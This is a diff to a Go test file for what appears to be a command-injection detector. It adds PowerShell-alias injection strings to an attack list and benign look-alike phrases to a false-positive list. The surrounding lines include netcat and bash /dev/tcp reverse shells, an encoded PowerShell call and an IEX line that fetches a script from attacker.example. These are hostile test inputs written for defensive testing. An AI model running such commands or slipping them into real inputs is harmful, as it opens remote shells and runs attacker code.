@@ -40,6 +40,12 @@ var commandAttacks = []placedCase{
 	{"nc -e /bin/sh 10.0.0.1 4444", nil},
 	{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", nil},
 	{"; powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", nil},
+	// PowerShell's built-in aliases after a separator
+	{";saps cmd.exe", nil},
+	{"| gwmi win32_process", nil},
+	{"& icm -ScriptBlock {whoami}", nil},
+	{";iwmi -class Win32_process -name Create -ArgumentList cmd", nil},
+	{"; gc C:\\Windows\\win.ini", nil},
 	{"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')", nil},
 	{"& cmd /c whoami", nil},
 	{"| dir", nil},
@@ -74,6 +80,9 @@ var commandAttacks = []placedCase{
 }
 
 var commandBenign = []placedCase{
+	{"JVM tuning; gc logs show long pauses", nil},
+	{"lat/long from the phone's GPS; gps accuracy is 5 m", nil},
+	{"Q&A: ICM and CPI figures for May", nil},
 	{"how to use the cat command", nil},
 	{"cat /etc/hosts explained", nil},
 	{"`ls -la | grep foo && echo done`", nil},
